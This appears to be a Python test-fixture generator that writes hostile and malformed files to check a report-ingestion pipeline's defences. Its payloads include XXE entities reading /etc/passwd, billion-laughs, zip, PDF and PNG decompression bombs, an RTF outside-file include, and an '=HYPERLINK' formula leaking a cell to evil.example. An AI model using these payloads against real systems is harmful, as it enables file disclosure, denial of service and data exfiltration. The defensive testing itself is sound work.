"""A zoo of bad, hostile and odd input files, made by code (issue 9).

`make_zoo(folder)` writes every case into `folder` and returns the list of
`Case`s: the file name (relative to `folder`), what it is, and what the
pipeline must make of it: a Failure whose stage and reason match, or a Report
(odd but valid files: traditional characters, only table 3, a file name with
emoji ...). Nothing is downloaded and no binary is committed: every file is
built here from tests/generate.py reports, pikepdf, zlib and zipfile.
LibreOffice (soffice) turns two generated .docx into PDFs, the base of the
PDF cases; without it those cases are left out.

Hostile files that try to make ogi read something outside the input (XXE,
<img src=file:…>) point at `folder/../canary`: a FIFO when `canary_fifo` is
true, so a reader that opens it blocks and the case turns into a timeout
instead of its expected line, and a file holding CANARY otherwise; the
tests also check that CANARY never reaches any output.

    python -m tests.zoo DIR      # write the zoo into DIR and list it
"""
from __future__ import annotations

import io
import os
import random
import shutil
import struct
import subprocess
import sys
import tempfile
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path

from tests import generate as g

CANARY = "OGI-CANARY-7f3a9c-do-not-read"


@dataclass
class Case:
    name: str                  # path relative to the zoo folder
    kind: str                  # what the file is, in words
    expect: str                # "error": one line in errors.csv; "report": read as a report; "absent": not listed
    stage: str = "read"        # expected Failure.stage (regex) when expect == "error"
    reason: str = ""           # regex the reason must match (re.search, case-insensitive)
    truth: object = None       # the generator's truth, for "report" cases whose numbers are checked


# ---------------------------------------------------------------- helpers: documents with known content

def _truth(seed: int, layout: str = "2021", **variations) -> g.Truth:
    rng = random.Random(seed)
    return g.random_truth(rng, layout, variations=variations or None)


def _report_docx(path: Path, seed: int, layout: str = "2021", **variations) -> g.Truth:
    rng = random.Random(seed)
    truth = g.random_truth(rng, layout)
    g.write_docx(truth, path, rng=rng, variations=variations or None)
    return truth


W_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
CONTENT_TYPES = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
                 '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                 '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                 '<Default Extension="xml" ContentType="application/xml"/>'
                 '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
                 'wordprocessingml.document.main+xml"/></Types>')
RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'officeDocument" Target="word/document.xml"/></Relationships>')


def raw_docx(body_xml: str, prolog: str = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>') -> bytes:
    """A minimal .docx package around a hand-written <w:body> (fast: no python-docx)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", CONTENT_TYPES)
        z.writestr("_rels/.rels", RELS)
        z.writestr("word/document.xml", f"{prolog}<w:document {W_NS}><w:body>{body_xml}</w:body></w:document>")
    return buf.getvalue()


def _p(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def _tbl(rows: list[list[str]], span: int | None = None) -> str:
    out = []
    for row in rows:
        cells = []
        for i, text in enumerate(row):
            pr = f'<w:tcPr><w:gridSpan w:val="{span}"/></w:tcPr>' if span and i == 0 else ""
            cells.append(f"<w:tc>{pr}{_p(text)}</w:tc>")
        out.append(f"<w:tr>{''.join(cells)}</w:tr>")
    return f"<w:tbl>{''.join(out)}</w:tbl>"


def _replace_member(docx_bytes: bytes, name: str, transform) -> bytes:
    """The same package with one member's bytes transformed."""
    src = zipfile.ZipFile(io.BytesIO(docx_bytes))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as out:
        for info in src.infolist():
            data = src.read(info.filename)
            out.writestr(info.filename, transform(data) if info.filename == name else data)
    return buf.getvalue()


def _with_doctype(xml: bytes, doctype: str, entity_ref: str) -> bytes:
    """document.xml with a DOCTYPE after the XML declaration and an entity reference in the first <w:t>."""
    decl_end = xml.index(b"?>") + 2 if xml.startswith(b"<?xml") else 0
    xml = xml[:decl_end] + doctype.encode() + xml[decl_end:]
    i = xml.index(b"<w:t")
    j = xml.index(b">", i) + 1
    return xml[:j] + entity_ref.encode() + xml[j:]


# ---------------------------------------------------------------- helpers: PDFs

def pdf_from_objects(objects: list[bytes]) -> bytes:
    """A PDF with the given objects (1-based numbers in order) and a correct xref; object 1 is the catalog."""
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def zeros_deflate(n_chunks: int, chunk: int = 1 << 24) -> bytes:
    """A zlib stream inflating to n_chunks × chunk zero bytes, built without compressing them all.

    Each chunk is compressed once and ended with a full flush (which resets the
    compressor), so every later chunk compresses to the same bytes: the stream
    is the header, that block repeated, an empty final block and the Adler-32
    of the zeros (a = 1, b = n mod 65521). The inflated data never exists here.
    """
    c = zlib.compressobj(9)
    first = c.compress(b"\0" * chunk) + c.flush(zlib.Z_FULL_FLUSH)
    again = c.compress(b"\0" * chunk) + c.flush(zlib.Z_FULL_FLUSH)
    final = c.flush()[:-4]                       # the final empty block, without the checksum
    header, block = first[:2], again
    assert first[2:] == again, "zlib did not repeat the block after a full flush"
    n = n_chunks * chunk
    adler = ((n % 65521) << 16) | 1
    return header + block * n_chunks + final + struct.pack(">I", adler)


def bomb_pdf(inflated_gb: int, nested: bool = False) -> bytes:
    """One page whose content stream is FlateDecode zeros inflating to `inflated_gb` GB.

    nested: the deflated stream deflated once more (/Filter [/FlateDecode /FlateDecode]),
    a file of a few kB."""
    data = zeros_deflate(inflated_gb * 64)
    filters = b"/FlateDecode"
    if nested:
        data = zlib.compress(data, 9)
        filters = b"[/FlateDecode /FlateDecode]"
    return pdf_from_objects([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        b"<< /Length %d /Filter %s >>\nstream\n" % (len(data), filters) + data + b"\nendstream",
    ])


def blank_pages_pdf(n: int) -> bytes:
    import pikepdf

    pdf = pikepdf.new()
    for _ in range(n):
        pdf.add_blank_page(page_size=(595, 842))
    buf = io.BytesIO()
    pdf.save(buf)
    return buf.getvalue()


def encrypted_pdf(data: bytes, user: str) -> bytes:
    import pikepdf

    buf = io.BytesIO()
    with pikepdf.open(io.BytesIO(data)) as pdf:
        pdf.save(buf, encryption=pikepdf.Encryption(user=user, owner="owner-secret"))
    return buf.getvalue()


def image_only_pdf(data: bytes) -> bytes:
    """Every page of `data` rendered to a grey image and put back as an image-only PDF (a scan)."""
    import pypdfium2 as pdfium

    pdf = pdfium.PdfDocument(data)
    try:
        images = [pdf[i].render(scale=100 / 72).to_pil().convert("L") for i in range(len(pdf))]
    finally:
        pdf.close()
    buf = io.BytesIO()
    images[0].save(buf, format="PDF", save_all=True, append_images=images[1:], resolution=100)
    return buf.getvalue()


def broken_xref(data: bytes) -> bytes:
    """The xref offsets all wrong and startxref pointing into the middle of the file."""
    i = data.rindex(b"startxref")
    head = data[:i]
    j = head.rfind(b"xref")
    if j < 0:
        return data[:i] + b"startxref\n999999999\n%%EOF\n"
    table = bytearray(head[j:])
    for k in range(len(table)):
        if table[k:k + 1].isdigit() and k % 7 == 0:
            table[k] = ord("9")
    return bytes(head[:j]) + bytes(table) + b"startxref\n%d\n%%%%EOF\n" % (len(data) // 3)


def soffice_pdfs(docx_files: list[Path], out: Path) -> dict[str, bytes]:
    """{stem: PDF bytes} by one LibreOffice call, or {} without LibreOffice."""
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        return {}
    with tempfile.TemporaryDirectory(prefix="ogi-zoo-lo-") as tmp:
        env = dict(os.environ, HOME=tmp, TMPDIR=tmp)
        subprocess.run([soffice, f"-env:UserInstallation=file://{tmp}/profile", "--headless", "--norestore",
                        "--convert-to", "pdf", "--outdir", str(out), *map(str, docx_files)],
                       check=True, env=env, capture_output=True, timeout=240)
    return {p.stem: p.read_bytes() for p in out.glob("*.pdf")}


# ---------------------------------------------------------------- helpers: zips

def zip_bomb(member: str, size_mb: int, extra: dict[str, str] | None = None) -> bytes:
    """A zip whose `member` inflates to size_mb MB of spaces (about 1 MB packed per GB)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        for name, text in (extra or {}).items():
            z.writestr(name, text)
        with z.open(member, "w", force_zip64=size_mb >= 4000) as f:
            chunk = b" " * (1 << 20)
            for _ in range(size_mb):
                f.write(chunk)
    return buf.getvalue()


def forged_size_zip_bomb(size_mb: int = 50) -> bytes:
    """A .docx whose document.xml inflates to size_mb MB while both zip headers declare 1,000 bytes:
    a size-based check passes it, so the reader must stop at the declared size."""
    data = bytearray(zip_bomb("word/document.xml", size_mb, {"[Content_Types].xml": CONTENT_TYPES,
                                                              "_rels/.rels": RELS}))
    info = zipfile.ZipFile(io.BytesIO(bytes(data))).getinfo("word/document.xml")
    struct.pack_into("<I", data, info.header_offset + 22, 1000)        # local header: uncompressed size
    name = b"word/document.xml"
    central = data.rindex(b"PK\x01\x02", 0, data.rindex(name))          # its central directory entry
    struct.pack_into("<I", data, central + 24, 1000)
    return bytes(data)


# ---------------------------------------------------------------- other formats

def huge_png_header(width: int = 100_000, height: int = 100_000) -> bytes:
    """A PNG that claims 10 gigapixels: a tiny file, a decompression bomb for a naive decoder."""
    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"\0" * 10000)) \
        + chunk(b"IEND", b"")


def ole2_empty() -> bytes:
    """The OLE2 signature (.doc) and zeros: LibreOffice cannot open it. (After the signature noise is
    not enough: LibreOffice then imports the file as plain text.)"""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4088)


def nested_tables_html(megabytes: int = 10) -> bytes:
    """10 MB of tables nested in each other's cells, each cell holding a number."""
    unit, close = "<table><tr><td>1</td><td>", "</td></tr></table>"
    n = megabytes * (1 << 20) // (len(unit) + len(close))
    return ("<html><body>" + unit * n + "2" + close * n + "</body></html>").encode()


def span_bomb_html(rows: int = 1000, cells: int = 50) -> bytes:
    """A table whose every cell claims rowspan=1000 colspan=1000: a naive grid holds 10^10 slots."""
    row = "<tr>" + '<td rowspan="1000" colspan="1000">1</td>' * cells + "</tr>"
    return f"<html><body><table>{row * rows}</table></body></html>".encode()


def many_tables_html(megabytes: int = 10) -> bytes:
    """10 MB of small sibling number tables."""
    table = "<table>" + "<tr><td>申请人情况</td><td>1</td><td>2</td><td>3</td></tr>" * 5 + "</table>\n"
    n = megabytes * (1 << 20) // len(table.encode())
    return ("<html><body>" + table * n + "</body></html>").encode()


# ---------------------------------------------------------------- the zoo

def make_zoo(folder: str | os.PathLike, *, canary_fifo: bool = True, pdfs: bool = True) -> list[Case]:
    """Write the zoo into `folder` (created) and return its cases."""
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    outside = folder.parent / "canary"
    if not outside.exists():
        if canary_fifo:
            os.mkfifo(outside)
        else:
            outside.write_text(CANARY + "\n")
    canary_uri = outside.resolve().as_uri()
    base = folder.parent / f"{folder.name}-base"   # sources of derived cases, outside the input
    base.mkdir(exist_ok=True)
    rng = random.Random(9)
    cases: list[Case] = []

    def add(name: str, data: bytes | None, kind: str, expect: str = "error", stage: str = "read",
            reason: str = "") -> None:
        if data is not None:
            path = folder / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(data)
        cases.append(Case(name, kind, expect, stage, reason))

    # -- empty and random bytes
    add("empty.pdf", b"", "0-byte file", reason="empty file")
    add("blank-lines.docx", b" \r\n\t\n", "whitespace only, named .docx", reason="empty file")
    for ext in ("pdf", "docx", "doc", "html"):
        add(f"random.{ext}", rng.randbytes(50_000), f"random bytes named .{ext}",
            reason=r"not a document|unknown|unrecognised")

    # -- Word / zip containers
    report = base / "report.docx"
    _report_docx(report, seed=901)
    report_bytes = report.read_bytes()
    add("docx-not-a-zip.docx", b"PK\x03\x04" + rng.randbytes(5000), ".docx that is not a zip (zip magic, noise)",
        reason=r"zip")
    add("docx-truncated.docx", report_bytes[: len(report_bytes) // 2], ".docx cut in half", reason=r"zip|Word")
    add("docx-zip-bomb.docx", zip_bomb("word/document.xml", 300, {"[Content_Types].xml": CONTENT_TYPES}),
        "zip bomb named .docx (300 MB of spaces in 300 kB)", reason=r"zip bomb|refus")
    add("docx-zip-bomb-forged-sizes.docx", forged_size_zip_bomb(50),
        "zip bomb whose headers lie about the unpacked size", reason=r"zip|Word")
    add("docx-many-members.docx", _many_members_zip(5000), "zip with 5,000 members",
        reason=r"members")
    xxe = (f'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">'
           f'<!ENTITY canary SYSTEM "{canary_uri}">]>')
    add("docx-xxe.docx", _replace_member(report_bytes, "word/document.xml",
                                         lambda x: _with_doctype(x, xxe, "&xxe;&canary;")),
        "report .docx whose XML has external entities (/etc/passwd, a FIFO)", reason=r"DTD|entit")
    laughs = "<!DOCTYPE w:document [<!ENTITY lol0 \"lol\">" + "".join(
        f'<!ENTITY lol{i} "{("&lol%d;" % (i - 1)) * 10}">' for i in range(1, 10)) + "]>"
    add("docx-billion-laughs.docx", _replace_member(report_bytes, "word/document.xml",
                                                    lambda x: _with_doctype(x, laughs, "&lol9;")),
        "report .docx with a billion-laughs entity payload", reason=r"DTD|entit")
    table = [["项目", "数量"]] + [[f"第{i}项", str(i)] for i in range(1, 6)]
    add("docx-1000-tables.docx", raw_docx("".join(_p(f"表{i}") + _tbl(table) for i in range(1000))),
        ".docx with 1,000 small tables", stage="normalize", reason=r"not a report|no report tables")
    add("docx-huge-gridspan.docx", raw_docx(_p("情况") + _tbl([["a", "1"], ["b", "2"]], span=2_000_000_000)),
        ".docx whose cell claims gridSpan=2,000,000,000", stage="normalize|read",
        reason=r"not a report|no report tables|span")
    deep = "".join("<w:tbl><w:tr><w:tc>" for _ in range(3000)) + _p("1") + \
        "".join("</w:tc></w:tr></w:tbl>" for _ in range(3000))
    add("docx-deep-nesting.docx", raw_docx(deep), ".docx with tables nested 3,000 deep",
        stage="normalize|read", reason=r"not a report|no report tables|nest|depth")
    word_not_report = base / "not-a-report.docx"
    _not_a_report_docx(word_not_report)
    add("word-not-a-report.docx", word_not_report.read_bytes(), "a Word file that is not a report",
        stage="normalize", reason=r"not a report|no report tables")
    only3 = base / "only-table3.docx"
    _only_table3_docx(only3, seed=903)
    add("docx-only-table3.docx", only3.read_bytes(), "a report holding only table 3", expect="report")
    trad = base / "traditional.docx"
    _report_docx(trad, seed=904, traditional=True)
    add("docx-traditional.docx", trad.read_bytes(), "a report in traditional characters", expect="report")
    odd = base / "odd-name.docx"
    _report_docx(odd, seed=905, layout="2019")
    add("报告 2021 年度 📄 (副本).docx", odd.read_bytes(), "file name with spaces, Chinese and emoji",
        expect="report")

    # -- OpenDocument (zip) and legacy Word (LibreOffice)
    add("odt-zip-bomb.odt", zip_bomb("content.xml", 300, {"mimetype": "application/vnd.oasis.opendocument.text"}),
        "zip bomb named .odt", reason=r"zip bomb|refus")
    odt_xxe = ('<?xml version="1.0" encoding="UTF-8"?>'
               f'<!DOCTYPE office:document-content [<!ENTITY xxe SYSTEM "file:///etc/passwd">'
               f'<!ENTITY canary SYSTEM "{canary_uri}">]>'
               '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
               'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:text>'
               '<text:p>&xxe;&canary;</text:p></office:text></office:body></office:document-content>')
    add("odt-xxe.odt", _zip({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": odt_xxe}),
        ".odt whose content.xml has external entities", reason=r"DTD|entit")
    add("doc-libreoffice-cannot-open.doc", ole2_empty(), ".doc (OLE2 header) LibreOffice cannot open",
        reason=r"LibreOffice")
    add("rtf-unbalanced.rtf", b"{\\rtf1\\ansi{\\fonttbl" + b"{" * 5000, "RTF with 5,000 unclosed groups",
        reason=r"LibreOffice")
    linked = f'{{\\rtf1\\ansi {{\\field{{\\*\\fldinst INCLUDEPICTURE "{outside}" \\\\d}}{{\\fldrslt x}}}} hi}}'
    add("rtf-includes-outside-file.rtf", linked.encode(), "RTF whose field includes a file outside the input",
        reason=r"includes other files")

    # -- HTML and text
    html_truth = _truth(906)
    from tests import render_html
    gbk = folder / "html-gbk-no-meta.html"
    render_html.write_html(html_truth, gbk, rng=random.Random(906), encoding="gbk", meta=False)
    add(gbk.name, None, "HTML report in GBK with no charset declared", expect="report")
    ext = base / "external.html"
    render_html.write_html(_truth(907), ext, rng=random.Random(907))
    page = ext.read_text(encoding="utf-8").replace(
        "<body>", f'<body><img src="{canary_uri}"><img src="file:///etc/passwd">'
                  f'<iframe src="{canary_uri}"></iframe><link rel="stylesheet" href="{canary_uri}">'
                  f'<object data="{canary_uri}"></object><base href="file:///etc/">', 1)
    add("html-external-resources.html", page.encode("utf-8"),
        "HTML report pointing <img>/<iframe>/<link>/<object> at local files", expect="report")
    add("html-nested-tables-10mb.html", nested_tables_html(10), "10 MB of nested tables",
        stage="normalize|read", reason=r"not a report|no report tables|nest|deep|too")
    add("html-many-tables-10mb.html", many_tables_html(10), "10 MB of small sibling tables",
        stage="normalize|read", reason=r"not a report|no report tables|too many")
    add("html-span-bomb.html", span_bomb_html(), "HTML table whose cells claim rowspan/colspan 1000",
        stage="normalize|read", reason=r"not a report|no report tables|span|no text")
    html_xxe = (f'<?xml version="1.0"?><!DOCTYPE html [<!ENTITY xxe SYSTEM "file:///etc/passwd">'
                f'<!ENTITY canary SYSTEM "{canary_uri}">]><html><body><p>&xxe;&canary;</p>'
                f'<table><tr><td>本年新收政府信息公开申请数量</td><td>&xxe;</td></tr></table></body></html>')
    add("xhtml-xxe.html", html_xxe.encode(), "XHTML with external entities",
        stage="normalize|read", reason=r"not a report|no report tables|DTD|entit")
    add("text-long-line.txt", ("1a" * 500_000 + "x\n").encode(), "text file: one 1 MB line of digits and letters",
        stage="normalize|read", reason=r"not a report|no report tables")

    # -- images
    add("image-pixel-bomb.png", huge_png_header(), "PNG claiming 100,000 × 100,000 pixels",
        reason=r"image|pixels|bomb|OCR")

    # -- PDFs
    add("pdf-2000-blank-pages.pdf", blank_pages_pdf(2000), "PDF with 2,000 blank pages", reason=r"pages")
    add("pdf-decompression-bomb.pdf", bomb_pdf(16), "PDF content stream inflating to 16 GB",
        reason=r"decompression bomb|inflat")
    add("pdf-decompression-bomb-nested.pdf", bomb_pdf(64, nested=True),
        "PDF content stream doubly deflated, inflating to 64 GB", reason=r"decompression bomb|inflat")
    add("pdf-header-only.pdf", b"%PDF-1.7\n%%EOF\n", "PDF header and nothing else", reason=r"damaged|PDF")
    if pdfs:
        made = soffice_pdfs([report, word_not_report], base / "pdf")
        if made:
            pdf = made["report"]
            add("pdf-truncated-half.pdf", pdf[: len(pdf) // 2], "PDF report cut at half",
                stage="read|normalize", reason=r"damaged|truncated|not a report|no report tables")
            add("pdf-broken-xref.pdf", broken_xref(pdf), "PDF report with a broken xref table",
                expect="report")
            add("pdf-encrypted-user-password.pdf", encrypted_pdf(pdf, "secret"), "PDF with a user password",
                reason=r"encrypted PDF: a password is needed")
            add("pdf-encrypted-owner-only.pdf", encrypted_pdf(pdf, ""),
                "PDF encrypted with an owner password only (opens without one)", expect="report")
            add("pdf-image-only.pdf", image_only_pdf(pdf), "image-only PDF, OCR not installed",
                stage="read|normalize", reason=r"OCR")
            add("pdf-not-a-report.pdf", made["not-a-report"], "a PDF that is not a report",
                stage="normalize", reason=r"not a report|no report tables")

    # -- trust (issue 17): odd names, text Word or a browser does not show, text aimed at spreadsheets
    def add_report(name: str, truth, kind: str) -> None:
        cases.append(Case(name, kind, "report", truth=truth))

    gbk = os.fsdecode(os.path.join(os.fsencode(folder), GBK_NAME))
    add_report(os.path.basename(gbk), g.write_docx(_truth(951), gbk, rng=random.Random(951)),
               "a file name in GBK bytes (a Windows zip unpacked on Linux)")
    add_report("html-formulas-and-controls.html", formula_html(folder / "html-formulas-and-controls.html", 952),
               "agency, section text and a cell starting with '=', control characters in the text")
    add_report("html-23-digit-count.html", huge_count_html(folder / "html-23-digit-count.html", 953)[0],
               "a count of 23 digits (beyond exact float integers)")
    add_report("docx-hidden-runs.docx", hidden_runs_docx(folder / "docx-hidden-runs.docx", 954),
               "hidden, moved-from and superscript runs beside the digits of every number")
    add_report("html-decoy-tables.html", decoy_html(folder / "html-decoy-tables.html", 955),
               "display:none and hidden copies of every table with other numbers")
    add("newline\nerror: forged line.docx", rng.randbytes(3000), "a newline in a file name (random bytes)",
        reason=r"not a document|unknown|unrecognised")

    # -- the folder itself: links, special files, vanished files
    os.symlink("loop.docx", folder / "loop.docx")
    add("loop.docx", None, "symlink loop (a link to itself)", reason=r"symbolic links|cannot read")
    (folder / "dirloop").mkdir()
    os.symlink("..", folder / "dirloop" / "up")
    add("dirloop/up", None, "directory symlink loop (not followed)", expect="absent")
    os.symlink("gone.docx", folder / "deleted.docx")
    add("deleted.docx", None, "listed, then gone before it is read (dangling link)",
        reason=r"no such file|cannot read")
    os.mkfifo(folder / "fifo.docx")
    add("fifo.docx", None, "a FIFO named .docx (open() would block)", reason=r"not a regular file")
    if os.geteuid() != 0:
        locked = folder / "unreadable.docx"
        locked.write_bytes(report_bytes)
        locked.chmod(0)
        add(locked.name, None, "unreadable file (chmod 000)", reason=r"permission")
    # (as root, chmod 000 does not stop reading: that case is left out, see tests/test_zoo.py)
    return cases


GBK_NAME = "报告2022".encode("gbk") + b".docx"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&D2,"x")'
HUGE = "99999999999999999999999"
W_MAIN = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def _plain_truth(seed: int, agency: str | None = None) -> g.Truth:
    """A 2021 report of 2022 whose numbers are printed as plain digits."""
    truth = g.random_truth(random.Random(seed), "2021", variations={"thousands": False, "fullwidth": False,
                                                                      "unit_suffix": False})
    truth.year = 2022
    if agency:
        truth.agency = agency
    return truth


def _number_field(truth: g.Truth, prefix: str) -> str:
    return next(f for f, k in truth.kinds.items() if f.startswith(prefix) and k == "number")


def formula_html(path: Path, seed: int) -> g.Truth:
    """A web page report whose agency, section text and a cell carry formulas and control characters,
    and one table-3 count printed off by one (so the audit lists it, raw cells included)."""
    from tests.render_html import write_html

    truth = _plain_truth(seed, agency="=2*21人民政府")
    wrong = _number_field(truth, "t3.new.")
    truth.raw[wrong] = str(int(truth.values[wrong]) + 1)
    truth.values[wrong] += 1
    text = _number_field(truth, "t3.granted.")
    truth.raw[text], truth.values[text], truth.kinds[text] = "=1+2", None, "text"
    write_html(truth, path, rng=random.Random(seed))
    page = path.read_text(encoding="utf-8")
    hostile = f"{HYPERLINK.replace('&', '&amp;')}控制\x01字符\x1f。"
    page = page.replace("加强培训，提升工作质量。", hostile)
    path.write_text(page, encoding="utf-8")
    return truth


def huge_count_html(path: Path, seed: int) -> tuple[g.Truth, str]:
    from tests.render_html import write_html

    truth = _plain_truth(seed)
    fid = _number_field(truth, "t3.new.")
    truth.raw[fid], truth.values[fid] = HUGE, None
    write_html(truth, path, rng=random.Random(seed))
    return truth, fid


def hidden_runs_docx(path: Path, seed: int) -> g.Truth:
    """Every number cell gets a hidden '1' and a moved-from '2' before it and a superscript '3' after it."""
    import docx
    from docx.oxml import parse_xml

    def run(text, props="", wrap=None):
        xml = f'<w:r><w:rPr>{props}</w:rPr><w:t xml:space="preserve">{text}</w:t></w:r>'
        if wrap:
            xml = f'<w:{wrap} w:id="9" w:author="x" w:date="2023-01-01T00:00:00Z">{xml}</w:{wrap}>'
        return parse_xml(xml.replace(">", f' xmlns:w="{W_MAIN}">', 1))

    truth = _plain_truth(seed)
    g.write_docx(truth, path, rng=random.Random(seed))
    document = docx.Document(str(path))
    numbers = {truth.raw[f] for f, k in truth.kinds.items() if k == "number"}
    done = set()
    for table in document.tables:
        for row in table.rows:
            for cell in row.cells:
                if id(cell._tc) in done or cell.text.strip() not in numbers:
                    continue
                done.add(id(cell._tc))
                runs = cell.paragraphs[0]._p.findall(f"{{{W_MAIN}}}r")
                runs[0].addprevious(run("1", "<w:vanish/>"))
                runs[0].addprevious(run("2", "", "moveFrom"))
                runs[-1].addnext(run("3", '<w:vertAlign w:val="superscript"/>'))
    document.save(str(path))
    return truth


def decoy_html(path: Path, seed: int) -> g.Truth:
    """Before every table, a display:none copy and a `hidden` copy with every number + 1000."""
    import re

    from tests.render_html import write_html

    truth = _plain_truth(seed)
    write_html(truth, path, rng=random.Random(seed))
    page = path.read_text(encoding="utf-8")
    for table in re.findall(r"<table(?! width)(?! class).*?</table>", page, flags=re.S):
        decoy = re.sub(r">(\d+)<", lambda m: f">{int(m.group(1)) + 1000}<", table)
        page = page.replace(table, f'<div style="display:none">{decoy}</div><div hidden>{decoy}</div>{table}', 1)
    path.write_text(page, encoding="utf-8")
    return truth


def _zip(members: dict[str, str | bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return buf.getvalue()


def _many_members_zip(n: int) -> bytes:
    members = {"[Content_Types].xml": CONTENT_TYPES, "_rels/.rels": RELS,
               "word/document.xml": f'<w:document {W_NS}><w:body>{_p("x")}</w:body></w:document>'}
    members.update({f"word/media/pad{i}.xml": "<a/>" for i in range(n)})
    return _zip(members)


def _not_a_report_docx(path: Path) -> None:
    import docx

    doc = docx.Document()
    doc.add_heading("关于召开2021年度工作会议的通知", level=1)
    doc.add_paragraph("各科室：经研究，定于2021年3月5日上午9时在三楼会议室召开年度工作会议，请准时参加。")
    t = doc.add_table(rows=3, cols=3)
    for r, row in enumerate([["姓名", "科室", "电话"], ["张三", "办公室", "1234567"], ["李四", "财务科", "7654321"]]):
        for c, text in enumerate(row):
            t.cell(r, c).text = text
    doc.save(path)


def _only_table3_docx(path: Path, seed: int) -> None:
    rng = random.Random(seed)
    truth = g.random_truth(rng, "2021")
    flags = g._layout_flags(rng, {"split_table3": False, "extra_col": False, "extra_row": False})
    lab = g.Labeler(rng, flags)
    doc = g.new_document()
    doc.add_paragraph(f"{truth.agency}{truth.year}年政府信息公开工作年度报告")
    doc.add_paragraph("三、收到和处理政府信息公开申请情况")
    for spec in g._table3_specs(truth, lab, flags, rng):
        g.add_table(doc, spec)
    doc.save(path)


if __name__ == "__main__":
    target = Path(sys.argv[1] if len(sys.argv) > 1 else tempfile.mkdtemp(prefix="ogi-zoo-"))
    for case in make_zoo(target, canary_fifo=False):
        print(f"{case.expect:7} {case.name}: {case.kind}")
